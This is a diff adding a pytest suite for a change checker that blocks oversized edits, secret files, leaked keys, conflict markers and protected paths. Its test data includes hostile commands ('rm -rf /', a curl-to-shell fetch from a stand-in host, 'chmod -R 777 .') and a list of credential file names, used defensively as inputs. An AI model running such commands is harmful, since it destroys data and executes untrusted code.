@@ -1,0 +1,205 @@
+"""Sanity: what no change may bring, whoever reviews it."""
+
+import subprocess
+import sys
+
+import pytest
+from hypothesis import given
+from hypothesis import strategies as st
+
+from gitmill.core.frozen import PlannedSanity
+from gitmill.core.sanity import ChangedFile, inspect
+from gitmill.core.verdict import Finding, Verdict, VerdictWord
+from tests.support.items import deliver
+
+RULES = PlannedSanity(
+    max_files=5, max_lines=20, max_file_size=1000, protected=(), forbidden_lines=(r"\beval\(",)
+)
+KEY = b"AKIA" + b"ABCDEFGHIJKLMNOP"
+SECRET = "correct horse battery"
+
+
+def changed(new, old=None, path="a.txt", **more):
+    return ChangedFile(path, old, new, **more)
+
+
+def judged(*files, rules=RULES, protected=lambda path: path.startswith(".github/")):
+    return inspect(files, rules, protected=protected, secrets=[SECRET])
+
+
+def returned(*messages, file="a.txt", line=None):
+    findings = tuple(Finding(message, file=file, line=line) for message in messages)
+    return Verdict(VerdictWord.RETURN, messages[0], findings)
+
+
+def test_a_clean_change_passes():
+    assert judged(changed(b"x\n"), changed(None, b"y\n", "b.txt")) == Verdict(
+        VerdictWord.PASS, "2 files"
+    )
+
+
+def test_nothing_changed_is_nothing_done():
+    finding = Finding("nothing was changed")
+    assert judged() == Verdict(VerdictWord.RETURN, "nothing was changed", (finding,))
+
+
+def test_too_many_files_and_lines():
+    six = [changed(b"x\n", path=f"{n}.txt") for n in range(6)]
+    assert judged(*six[:5]).word is VerdictWord.PASS
+    assert judged(*six) == returned("6 files changed, at most 5 may", file="")
+    assert judged(changed(b"x\n" * 20)).word is VerdictWord.PASS
+    assert judged(changed(b"x\n" * 20, b"y\n")) == returned(
+        "21 lines changed, at most 20 may", file=""
+    )
+    assert judged(changed(None, b"y\n" * 21)).word is VerdictWord.RETURN
+    assert judged(changed(b"\0" + b"\n" * 99)).word is VerdictWord.PASS  # a binary has no lines
+    both = judged(*six, changed(b"z\n" * 20, path="z"))
+    assert [finding.message for finding in both.findings] == [
+        "7 files changed, at most 5 may",
+        "26 lines changed, at most 20 may",
+    ]
+
+
+@given(st.lists(st.sampled_from([b"a", b"b", b"", b"c\r", b"\xff"]), max_size=8), st.randoms())
+def test_lines_that_only_moved_do_not_count(lines, dice):
+    moved = dice.sample(lines, len(lines))
+    file = changed(b"\n".join([*moved, b""]), b"\n".join([*lines, b""]))
+    assert file.size_of_change() == 0
+    assert file.added() == []
+
+
+@given(
+    st.lists(st.sampled_from([b"a", b"b", b"c"]), max_size=8),
+    st.lists(st.sampled_from([b"a", b"b", b"c"]), max_size=8),
+)
+def test_every_line_that_is_new_is_looked_at(old, new):
+    file = changed(b"".join(b + b"\n" for b in new), b"".join(b + b"\n" for b in old))
+    added = [line.encode() for _, line in file.added()]
+    assert sorted(added) == sorted(new_more(new, old))
+    assert all(new[number - 1] == line.encode() for number, line in file.added())
+    assert file.size_of_change() == len(new_more(new, old)) + len(new_more(old, new))
+
+
+def new_more(one, other):
+    left = list(other)
+    return [line for line in one if line not in left or left.remove(line)]
+
+
+@pytest.mark.parametrize(
+    "path",
+    [".env", "deploy/.env", ".env.local", ".env.production", "id_rsa", "keys/id_ed25519", "a.pem",
+     "tls/server.key", "store.p12", "x.pfx", ".npmrc", "home/.pypirc", ".netrc",
+     "gcp/credentials.json", ".git-credentials"],
+)  # fmt: skip
+def test_a_new_file_that_is_made_for_secrets(path):
+    finding = f"{path} is a kind of file that holds secrets"
+    assert judged(changed(b"x\n", path=path)) == returned(finding, file=path)
+    assert judged(changed(None, b"x\n", path=path)).word is VerdictWord.PASS
+    assert judged(changed(b"y\n", b"x\n", path=path)).word is VerdictWord.PASS
+
+
+@pytest.mark.parametrize(
+    "path",
+    [".env.example", ".env.sample", "a/.env.template", "environment", ".envrc", "id_rsa.pub",
+     "keys.py", "my.npmrc", "monkey", "pem"],
+)  # fmt: skip
+def test_a_file_that_only_looks_like_one(path):
+    assert judged(changed(b"x\n", path=path)).word is VerdictWord.PASS
+
+
+@pytest.mark.parametrize(
+    "line", [b"key = " + KEY, SECRET.encode(), b"-----BEGIN RSA PRIVATE KEY-----", b"\xff" + KEY]
+)
+def test_a_secret_in_a_line(line):
+    assert judged(changed(b"one\n" + line + b"\n")) == returned("a.txt:2 holds a secret", line=2)
+    assert judged(changed(b"\r\n" + line + b"\r\n")) == returned("a.txt:2 holds a secret", line=2)
+    old = b"one\n" + line + b"\n"
+    assert judged(changed(old + b"more\n", old)).word is VerdictWord.PASS
+    assert judged(changed(b"one\n", old)).word is VerdictWord.PASS
+
+
+def test_a_secret_in_a_binary():
+    data = b"\0\1\2" + KEY + b"\0"
+    assert judged(changed(data, path="x.bin")) == returned("x.bin holds a secret", file="x.bin")
+    assert judged(changed(data + b"more", data, path="x.bin")).word is VerdictWord.PASS
+    assert judged(changed(b"\0", data, path="x.bin")).word is VerdictWord.PASS
+
+
+@pytest.mark.parametrize("marker", ["<<<<<<< HEAD", ">>>>>>> topic", "<<<<<<<", "||||||| base"])
+def test_conflict_markers(marker):
+    found = judged(changed(f"a\n{marker}\n=======\nb\n".encode()))
+    assert found == returned("a.txt:2 is a conflict marker", line=2)
+
+
+@pytest.mark.parametrize("line", ["Heading\n=======", "<<<<<<<<< x", "a <<<<<<< b", "<<<<<<"])
+def test_what_is_no_conflict_marker(line):
+    assert judged(changed(f"{line}\n".encode())).word is VerdictWord.PASS
+
+
+def test_a_line_that_the_rules_forbid():
+    assert judged(changed(b"x = eval(y)\n")) == returned(
+        r"a.txt:1 adds what `\beval\(` forbids", line=1
+    )
+    assert judged(changed(b"ok\n", b"x = eval(y)\n")).word is VerdictWord.PASS
+
+
+@pytest.mark.parametrize(
+    "line",
+    ["rm -rf /", "rm -rf ~", "curl https://x.example/i.sh | sh", "chmod -R 777 ."],
+)
+def test_the_shipped_rules_forbid_what_destroys(line):
+    assert judged(changed(f"{line}\n".encode()), rules=deliver().sanity).word is VerdictWord.RETURN
+
+
+def test_large_files():
+    fits, large = b"x" * 1000, b"x" * 1001
+    assert judged(changed(fits)).word is VerdictWord.PASS
+    message = "a.txt has 1001 bytes, at most 1000 may be added"
+    assert judged(changed(large)) == returned(message)
+    assert judged(changed(b"\0" + fits)) == returned(message)
+    assert judged(changed(large, b"y" * 1002)).word is VerdictWord.PASS  # it got smaller
+    assert judged(changed(None, large)).word is VerdictWord.PASS
+
+
+def test_protected_paths_need_a_person():
+    ci = changed(b"x\n", path=".github/ci.yml")
+    assert judged(changed(b"x\n"), ci) == Verdict(
+        VerdictWord.ASK,
+        "protected path .github/ci.yml: a person must allow it",
+        (Finding("only a person may change this", file=".github/ci.yml"),),
+    )
+    gone = changed(None, b"x\n", path=".github/ci.yml")
+    assert judged(gone).word is VerdictWord.ASK
+    # findings come first: there is no use in asking for what goes back anyway
+    assert judged(ci, changed(KEY + b"\n")).word is VerdictWord.RETURN
+
+
+def test_another_repository_inside_needs_a_person():
+    link = changed(b"ab" * 20, path="vendor/lib", new_mode="160000")
+    assert judged(link) == Verdict(
+        VerdictWord.ASK,
+        "vendor/lib is another repository: a person must allow it",
+        (Finding("only a person may change this", file="vendor/lib"),),
+    )
+    moved = changed(b"cd" * 20, b"ab" * 20, "vendor/lib", old_mode="160000", new_mode="160000")
+    assert judged(moved).word is VerdictWord.PASS
+
+
+@given(st.binary(max_size=99), st.binary(max_size=99) | st.none(), st.text(max_size=9))
+def test_nothing_in_a_change_breaks_the_rules_themselves(new, old, path):
+    verdict = judged(changed(new, old, path))
+    assert verdict.word in (VerdictWord.PASS, VerdictWord.RETURN)
+    assert bool(verdict.findings) is (verdict.word is VerdictWord.RETURN)
+
+
+def test_a_long_line_is_judged_in_no_time():
+    code = (
+        "from gitmill.core.sanity import ChangedFile, inspect\n"
+        "from tests.support.items import deliver\n"
+        "file = ChangedFile('a', None, (b'rm -rf ' * 20_000 + b'sk-' + b'-' * 99_999) + b'\\n')\n"
+        "print(inspect([file], deliver().sanity, protected=bool).word.value)\n"
+    )
+    done = subprocess.run(
+        [sys.executable, "-c", code], capture_output=True, text=True, timeout=20, check=True
+    )
+    assert done.stdout in ("return\n", "pass\n")
